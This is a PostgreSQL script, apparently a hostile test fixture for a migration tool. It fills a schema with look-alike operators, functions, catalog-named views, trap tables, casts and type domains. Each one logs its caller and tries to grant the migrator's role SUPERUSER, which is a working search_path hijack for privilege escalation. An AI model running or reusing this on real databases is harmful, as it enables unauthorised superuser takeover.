-- Run by a migrator with hostile.schema set to a schema in which it may create: whatever somebody else's session could be made
-- to call there by a bare name. Each of them says in the server's log who called it, and tries to make the migrator a superuser.
SET search_path = pg_catalog;

DO $plant$
DECLARE
  home CONSTANT text := quote_ident(current_setting('hostile.schema'));
  me CONSTANT text := quote_ident(current_user);
  types CONSTANT text[] := ARRAY['oid', 'int4', 'int8', 'int2', 'float8', 'numeric', 'text', 'name', '"char"', 'bool',
                                 'timestamptz', 'interval', 'xid', 'regclass', 'text[]', 'name[]', 'oid[]'];
  found record;
  variant text;
BEGIN
  EXECUTE format($sql$
    CREATE FUNCTION %1$s.note(what text) RETURNS bool LANGUAGE plpgsql SET search_path = pg_catalog AS $body$
    BEGIN
      RAISE LOG 'hos%% %% called by %% as %%', 'tile', what, session_user, current_user;
      BEGIN
        ALTER ROLE %2$s SUPERUSER;
      EXCEPTION WHEN OTHERS THEN
        NULL;
      END;
      RETURN true;
    END $body$ $sql$, home, me);

  -- Operators, of the types that catalogs have, also those that pg_catalog has too.
  FOR found IN SELECT l, r FROM unnest(types) AS l, unnest(types) AS r LOOP
    EXECUTE format($sql$
      CREATE FUNCTION %1$s.op_bool(a %2$s, b %3$s) RETURNS bool LANGUAGE plpgsql AS
        'BEGIN RETURN %1$s.note(''operator(%2$s,%3$s)''); END';
      CREATE FUNCTION %1$s.op_left(a %2$s, b %3$s) RETURNS %2$s LANGUAGE plpgsql AS
        'BEGIN PERFORM %1$s.note(''operator(%2$s,%3$s)''); RETURN a; END';
      CREATE FUNCTION %1$s.op_text(a %2$s, b %3$s) RETURNS text LANGUAGE plpgsql AS
        'BEGIN PERFORM %1$s.note(''operator(%2$s,%3$s)''); RETURN ''''; END' $sql$, home, found.l, found.r);
  END LOOP;
  FOR found IN
    SELECT l, r, op, CASE WHEN op IN ('+', '-', '*', '/') THEN 'op_left' WHEN op = '||' THEN 'op_text' ELSE 'op_bool' END AS does
      FROM unnest(types) AS l, unnest(types) AS r,
           unnest(ARRAY['=', '<>', '<', '>', '<=', '>=', '~', '!~', '~~', '&&', '+', '-', '*', '/', '||']) AS op
  LOOP
    EXECUTE format('CREATE OPERATOR %s.%s (FUNCTION = %s.%s, LEFTARG = %s, RIGHTARG = %s)',
                   home, found.op, home, found.does, found.l, found.r);
  END LOOP;

  -- Functions of the same name with the same arguments, and with others that would fit better.
  FOR found IN
    SELECT p.proname, p.prorettype::regtype AS result, oidvectortypes(p.proargtypes) AS arguments
      FROM pg_proc AS p
      JOIN pg_type AS t ON t.oid = p.prorettype
     WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f' AND NOT p.proretset AND p.pronargs <= 4
       AND t.typtype <> 'p' AND p.provariadic = 0
       AND NOT EXISTS (SELECT FROM pg_type AS a WHERE a.oid = ANY (p.proargtypes) AND a.typtype = 'p')
       AND (p.provolatile <> 'i' OR p.proname !~ '(in|out|recv|send|eq|ne|lt|gt|le|ge|cmp|sel|hash|larger|smaller)$')
  LOOP
    FOR variant IN
      SELECT DISTINCT v FROM unnest(ARRAY[found.arguments, replace(found.arguments, 'text', 'name'),
                                          replace(found.arguments, 'bigint', 'integer'),
                                          replace(found.arguments, 'oid', 'integer')]) AS v
    LOOP
      BEGIN
        EXECUTE format('CREATE FUNCTION %s.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', home, found.proname, variant, found.result,
                       format('BEGIN PERFORM %s.note(%L); RETURN NULL; END', home, found.proname));
      EXCEPTION WHEN duplicate_function OR undefined_object OR syntax_error THEN
        NULL;
      END;
    END LOOP;
  END LOOP;
  EXECUTE format($sql$
    CREATE FUNCTION %1$s.unnest(anyarray) RETURNS SETOF anyelement LANGUAGE plpgsql AS
      'BEGIN PERFORM %1$s.note(''unnest''); RETURN; END';
    CREATE FUNCTION %1$s.count_state(int8) RETURNS int8 LANGUAGE plpgsql AS
      'BEGIN PERFORM %1$s.note(''count''); RETURN 0; END';
    CREATE AGGREGATE %1$s.count(*) (SFUNC = %1$s.count_state, STYPE = int8) $sql$, home);

  -- Relations of the same names as the catalogs'.
  FOR found IN SELECT c.relname FROM pg_class AS c WHERE c.relnamespace = 'pg_catalog'::regnamespace AND c.relkind IN ('r', 'v')
  LOOP
    BEGIN
      EXECUTE format('CREATE VIEW %s.%I AS SELECT * FROM pg_catalog.%I WHERE (SELECT %s.note(%L))',
                     home, found.relname, found.relname, home, found.relname);
    EXCEPTION WHEN OTHERS THEN
      NULL;
    END;
  END LOOP;
END $plant$;

DO $types$
DECLARE
  home CONSTANT text := quote_ident(current_setting('hostile.schema'));
  found record;
BEGIN
  -- A table with everything that is computed when somebody reads, writes or looks after it.
  EXECUTE format($sql$
    CREATE FUNCTION %1$s.noted(what text, i int4) RETURNS int4 LANGUAGE plpgsql IMMUTABLE AS
      'BEGIN PERFORM %1$s.note(what); RETURN i; END';
    CREATE FUNCTION %1$s.trapped() RETURNS trigger LANGUAGE plpgsql AS
      'BEGIN PERFORM %1$s.note(''trigger''); RETURN new; END';
    CREATE TABLE %1$s.trap (i int4 DEFAULT %1$s.noted('default', 1) CHECK (%1$s.noted('check', i) IS NOT NULL),
                            g int4 GENERATED ALWAYS AS (%1$s.noted('generated', i)) STORED);
    CREATE INDEX trap_index ON %1$s.trap (%1$s.noted('index', i));
    CREATE TRIGGER trap BEFORE INSERT OR UPDATE ON %1$s.trap FOR EACH ROW EXECUTE FUNCTION %1$s.trapped();
    INSERT INTO %1$s.trap VALUES (1);
    ALTER TABLE %1$s.trap ENABLE ROW LEVEL SECURITY;
    ALTER TABLE %1$s.trap FORCE ROW LEVEL SECURITY;
    CREATE POLICY trap ON %1$s.trap USING (%1$s.note('policy'));
    CREATE VIEW %1$s.trap_view AS SELECT i, %1$s.note('view') FROM %1$s.trap;
    CREATE RULE trap_rule AS ON INSERT TO %1$s.trap_view DO INSTEAD SELECT %1$s.note('rule');
    CREATE MATERIALIZED VIEW %1$s.trap_kept AS SELECT %1$s.note('materialized view') AS n;
    CREATE FUNCTION %1$s.definer() RETURNS bool LANGUAGE sql SECURITY DEFINER AS 'SELECT %1$s.note(''definer'')';
    CREATE TYPE %1$s.sneaky AS ENUM ('x');
    CREATE FUNCTION %1$s.to_sneaky(text) RETURNS %1$s.sneaky LANGUAGE plpgsql AS
      'BEGIN PERFORM %1$s.note(''cast''); RETURN ''x''; END';
    CREATE CAST (text AS %1$s.sneaky) WITH FUNCTION %1$s.to_sneaky(text) AS IMPLICIT $sql$, home);
  -- Last, because what is created after them would need care: types of the same names.
  FOR found IN
    SELECT name, CASE name WHEN 'char' THEN '"char"' ELSE name END AS base
      FROM unnest(ARRAY['text', 'name', 'oid', 'regclass', 'regtype', 'regproc', 'float8', 'int4', 'int8', 'bool', 'jsonb',
                        'timestamptz', 'interval', 'char']) AS name
  LOOP
    EXECUTE format('CREATE DOMAIN %s.%I AS pg_catalog.%s CHECK (%s.note(%L))', home, found.name, found.base, home,
                   'type ' || found.name);
  END LOOP;
END $types$;
